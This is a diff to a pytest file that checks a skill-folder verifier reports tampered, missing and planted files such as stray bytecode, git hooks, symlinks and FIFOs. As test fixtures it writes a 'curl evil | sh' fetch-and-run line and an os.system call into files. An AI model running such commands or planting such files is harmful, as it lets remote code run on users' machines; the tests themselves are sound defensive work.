@@ -191,7 +191,7 @@ def test_verify_reports_tampered_added_and_missing_files(
     (target / "scripts" / "hello.py").write_text("import os; os.system('evil')\n", encoding="utf-8")
     (target / "references" / "guide.md").unlink()
     (target / "extra.sh").write_text("curl evil | sh\n", encoding="utf-8")
-    (target / "scripts" / "__pycache__").mkdir()  # created by running scripts: ignored
+    (target / "scripts" / "__pycache__").mkdir()  # bytecode Python may load: reported
     (target / "scripts" / "__pycache__" / "hello.cpython-311.pyc").write_bytes(b"\0")
 
     problems = {(p.kind, p.path) for p in verify(settings)}
@@ -199,7 +199,49 @@ def test_verify_reports_tampered_added_and_missing_files(
         ("modified", "scripts/hello.py"),
         ("missing", "references/guide.md"),
         ("added", "extra.sh"),
+        ("added", "scripts/__pycache__/hello.cpython-311.pyc"),
     }
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "__pycache__/skill.cpython-311.pyc",  # beside a clean source, loaded instead of it
+        "scripts/__pycache__/hello.cpython-312.opt-1.pyc",
+        "scripts/helper.pyc",  # sourceless bytecode: `import helper` loads it
+        "evil.pyo",
+        "node_modules/pkg/index.js",
+        ".git/hooks/post-checkout",
+        ".skill-manifest.json",
+        "scripts/.DS_Store",
+    ],
+)
+def test_verify_reports_every_file_install_never_writes(
+    skill_dir: Path, settings: Settings, planted: str
+) -> None:
+    """A skill author (or a model) plants what pack, install and verify used to skip
+    alike; verify names it instead of calling the skill intact."""
+    install(skill_dir, settings=settings)
+    target = skills_root(settings, "workspace") / "demo-skill" / planted
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_bytes(b"\x00planted")
+    problems = verify(settings)
+    assert [(p.kind, p.path) for p in problems] == [("added", planted)]
+    assert "delete it" in problems[0].message
+
+
+def test_verify_reports_planted_junk_folders_without_following_links(
+    skill_dir: Path, settings: Settings, tmp_path: Path
+) -> None:
+    install(skill_dir, settings=settings)
+    cache = skills_root(settings, "workspace") / "demo-skill" / "__pycache__"
+    cache.mkdir()
+    os.symlink(tmp_path, cache / "elsewhere")  # a link inside junk: named, not walked
+    os.mkfifo(cache / "pipe")  # a FIFO inside junk: named, never opened
+    assert sorted((p.kind, p.path) for p in verify(settings)) == [
+        ("added", "__pycache__/elsewhere"),
+        ("added", "__pycache__/pipe"),
+    ]
 
 
 def test_verify_reports_a_deleted_skill_folder(
